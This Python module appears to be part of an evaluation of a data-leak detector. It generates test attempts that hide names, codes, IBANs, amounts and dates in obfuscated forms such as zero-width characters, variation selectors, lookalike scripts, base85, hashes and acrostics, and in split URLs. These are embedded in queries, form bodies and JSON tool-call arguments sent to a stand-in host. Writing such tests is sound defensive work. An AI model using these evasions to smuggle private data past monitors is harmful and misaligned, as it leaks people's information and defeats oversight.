"""Encoders of the claimed classes by somebody who had not seen the decoders: other libraries' output, other places.

They were written from one line of description of each class, tried blind, and kept where a way was new.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import hashlib
import json
import lzma
import random
import zlib
from collections.abc import Callable
from urllib.parse import quote

from eval.leaks.attempt import Attempt, LeakClass, body, carried, query, url
from eval.leaks.case import Case

_JSON = "application/json"
_FORM = "application/x-www-form-urlencoded"
_SELECTORS = 0xFE00
_MORSE = ".- -... -.-. -.. . ..-. --. .... .. .--- -.- .-.. -- -. --- .--. --.- .-. ... - ..- ...- .-- -..- -.-- --.."
_SIGNS = dict(zip("abcdefghijklmnopqrstuvwxyz", _MORSE.split(" "), strict=True))
_DOTS = dict(
    zip(
        "abcdefghijklmnopqrstuvwxyz",
        (1, 3, 9, 25, 17, 11, 27, 19, 10, 26, 5, 7, 13, 29, 21, 15, 31, 23, 14, 30, 37, 39, 58, 45, 61, 53),
        strict=True,
    )
)
_SQUARE = "abcdefghiklmnopqrstuvwxyz"
_MIRROR = str.maketrans("abcdefgijkpqrst", "ɒdɔbɘꟻǫiįʞqpɿꙅƚ")
_CAPITALS = str.maketrans("ABEHIKMNOPTXYZ", "ΑΒΕΗΙΚΜΝΟΡΤΧΥΖ")
_CHEROKEE = str.maketrans("ABCDEGHJKLMPRSTVWZ", "ᎪᏴᏟᎠᎬᏀᎻᎫᏦᏞᎷᏢᎡᏚᎢᏙᎳᏃ")
_TOWNS = {
    "a": "Arles", "b": "Basel", "c": "Cork", "d": "Delft", "e": "Exeter", "f": "Faro", "g": "Ghent", "h": "Hull",
    "i": "Ivrea", "j": "Jena", "k": "Kiel", "l": "Leeds", "m": "Metz", "n": "Nimes", "o": "Oslo", "p": "Pisa",
    "q": "Quimper", "r": "Rome", "s": "Siena", "t": "Turin", "u": "Ulm", "v": "Vigo", "w": "Worms", "x": "Xanten",
    "y": "York", "z": "Zwolle",
}  # fmt: skip


def _of(*ways: Callable[[str], str]) -> Callable[[Case, random.Random], Attempt]:
    """One of some ways to write a name, in a query, a field of a form, an address or JSON."""
    return lambda case, source: _placed(
        source.choice(ways)(source.choice([case.code, case.person, case.surname])), source
    )


def _placed(text: str, source: random.Random) -> Attempt:
    place = source.randrange(5)
    if place == 0:
        return body(f"lang=en&note={quote(text, safe='')}&page=2", _FORM)
    if place == 1:
        return url(f"https://api.example.com/v1/find?lang=en&q={quote(text, safe='')}&page=2")
    if place == 2:
        return body(
            json.dumps({"tool": "note", "arguments": {"items": [{"text": f"see {text} today"}]}}), _JSON
        )
    return carried(text, source)


def _letters(text: str) -> str:
    return "".join(filter(str.isalpha, text.lower()))


def _morse(text: str, short: str, long: str) -> str:
    return " ".join(_SIGNS[c].replace(".", short).replace("-", long) for c in _letters(text))


def _cells(text: str, shape: str) -> str:
    places = (_SQUARE.index(c.replace("j", "i")) for c in _letters(text))
    return " ".join(shape.format(place // 5 + 1, place % 5 + 1, row="ABCDE"[place // 5]) for place in places)


def _hidden_groups(text: str) -> str:
    bits = "\ufeff".join(f"{ord(char):b}" for char in text)
    return "note" + bits.replace("0", "\u200b").replace("1", "\u200c")


def _half_bytes(text: str) -> str:
    return "❤" + "".join(chr(_SELECTORS + (b >> 4)) + chr(_SELECTORS + (b & 15)) for b in text.encode())


def _hashed(case: Case, source: random.Random) -> Attempt:
    value = source.choice([case.code, case.person, case.iban]).encode()
    hashed = hashlib.new(source.choice(["md5", "sha1", "sha256", "sha512", "sha3_256"]), value)
    text = source.choice([hashed.hexdigest(), base64.b64encode(hashed.digest()).decode()])
    return _placed(text, source)


def _figure(case: Case, source: random.Random) -> Attempt:
    """The amount in other bases, backwards as written, by ROT18, in Korean myriads."""
    value = f"{case.amount / 1e9:.2f}bn {case.currency}"
    digits = str.maketrans("0123456789", "5678901234")
    ways = (
        f"{case.amount:x}h",
        f"#{case.amount:X}",
        f"{case.amount:b}",
        value[::-1],
        codecs.encode(value.translate(digits), "rot13"),
        f"{case.amount // 10**8}억{case.amount % 10**8 // 10**4 or ''}{'만' if case.amount % 10**8 else ''} won",
    )
    return _placed(source.choice(ways), source)


def _items(case: Case, source: random.Random) -> Attempt:
    """First letters of the items of a list."""
    lines = [
        f"{_TOWNS[char].lower()} {source.choice(['prices', 'trade', 'weather'])}"
        for char in _letters(case.code)
    ]
    return body(json.dumps({"lines": lines}), _JSON)


def _chunks(case: Case, source: random.Random) -> Attempt:
    """Base 64 in a parameter of several addresses."""
    whole = base64.urlsafe_b64encode(case.code.encode()).decode().rstrip("=")
    size = -(-len(whole) // source.choice([2, 3]))
    parts = (whole[at : at + size] for at in range(0, len(whole), size))
    return [part for text in parts for part in url(f"https://api.example.com/a?t={text}")]


def _record(case: Case, source: random.Random) -> Attempt:
    day = {"year": case.day.year, "month": case.day.month, "day": case.day.day}
    return (
        body(json.dumps(day), _JSON)
        if source.random() < 0.5
        else [query(case.day.strftime("on %a %b %d %Y"))]
    )


VARIANTS_OUTSIDE: tuple[LeakClass, ...] = (
    LeakClass(8, "terminal colours inside", "Y", _of(lambda t: f"{t[:4]}\x1b[1m{t[4:]}\x1b[0m")),
    LeakClass(
        10,
        "Greek and Cherokee capitals",
        "Y",
        _of(lambda t: t.upper().translate(_CAPITALS), lambda t: t.upper().translate(_CHEROKEE)),
    ),
    LeakClass(16, "in a mirror", "Y", _of(lambda t: t.lower()[::-1].translate(_MIRROR))),
    LeakClass(19, "half a byte a selector", "Y", _of(_half_bytes)),
    LeakClass(20, "zero-width bits with a mark between", "Y", _of(_hidden_groups)),
    LeakClass(
        27,
        "ROT13 of base 64",
        "Y",
        _of(lambda t: codecs.encode(base64.b64encode(t.encode()).decode(), "rot13")),
    ),
    LeakClass(
        30,
        "base 85 in brackets and fields",
        "Y",
        _of(
            lambda t: f"({base64.a85encode(t.encode()).decode()})",
            lambda t: f"a85:{base64.a85encode(t.encode()).decode()}",
            lambda t: repr(base64.b85encode(t.encode())),
        ),
    ),
    LeakClass(34, "hexadecimal beside a number", "Y", _of(lambda t: f"8841: {t.encode().hex(' ', 2)}")),
    LeakClass(
        35,
        "bits in groups of four and sixteen",
        "Y",
        _of(
            lambda t: " ".join(f"{b >> 4:04b} {b & 15:04b}" for b in t.encode()),
            lambda t: " ".join(f"{b:016b}" for b in t.encode()),
        ),
    ),
    LeakClass(
        36,
        "letter numbers, signs between",
        "Y",
        _of(
            lambda t: "+".join(str(ord(c) - 96) for c in _letters(t)),
            lambda t: " ".join(f"#{ord(c) - 96}" for c in _letters(t)),
            lambda t: "".join(f"{ord(c) - 96:02d}" for c in _letters(t)),
        ),
    ),
    LeakClass(41, "octal of four digits", "Y", _of(lambda t: "".join(f"\\{ord(c):04o}" for c in t))),
    LeakClass(
        42,
        "U without a plus",
        "Y",
        _of(
            lambda t: " ".join(f"U{ord(c):04X}" for c in t),
            lambda t: " ".join(f"U-{ord(c):08X}" for c in t),
            lambda t: "".join(f"<U{ord(c):04X}>" for c in t),
        ),
    ),
    LeakClass(
        44,
        "uuencode in quotation marks",
        "Y",
        _of(lambda t: f'"{binascii.b2a_uu(t.encode()).decode().rstrip()}"'),
    ),
    LeakClass(45, "UTF-32 with its mark", "Y", _of(lambda t: base64.b64encode(t.encode("utf-32")).decode())),
    LeakClass(
        47,
        "older LZMA, and zlib in base 85",
        "Y",
        _of(
            lambda t: base64.b64encode(lzma.compress(t.encode(), lzma.FORMAT_ALONE)).decode(),
            lambda t: base64.b85encode(zlib.compress(t.encode())).decode(),
        ),
    ),
    LeakClass(
        56,
        "Polybius, rows and columns apart",
        "Y",
        _of(
            lambda t: _cells(t, "{0},{1}"), lambda t: _cells(t, "{row}{1}"), lambda t: _cells(t, "({0},{1})")
        ),
    ),
    LeakClass(
        60,
        "own spelling alphabet, other joints",
        "Y",
        _of(
            lambda t: ", ".join(f"{c.upper()} - {_TOWNS[c]}" for c in _letters(t)),
            lambda t: ", ".join(f"{c} = {_TOWNS[c]}" for c in _letters(t)),
            lambda t: ", ".join(f"{_TOWNS[c]} ({c})" for c in _letters(t)),
        ),
    ),
    LeakClass(
        61,
        "morse as words, bars and bits",
        "Y",
        _of(lambda t: _morse(t, "•", "▬"), lambda t: _morse(t, "0", "1")),
    ),
    LeakClass(
        62, "braille with hyphens", "Y", _of(lambda t: "-".join(chr(0x2800 + _DOTS[c]) for c in _letters(t)))
    ),
    LeakClass(64, "first letters of a list's items", "Y", _items),
    LeakClass(78, "encoded, then split over addresses", "Y", _chunks),
    LeakClass(85, "in other bases and turned", "Y", _figure),
    LeakClass(92, "a record of three numbers", "Y", _record),
    LeakClass(100, "hash of the value, anywhere", "Y", _hashed),
)
"""Each of a class of `evasions`, named after what is new in it."""
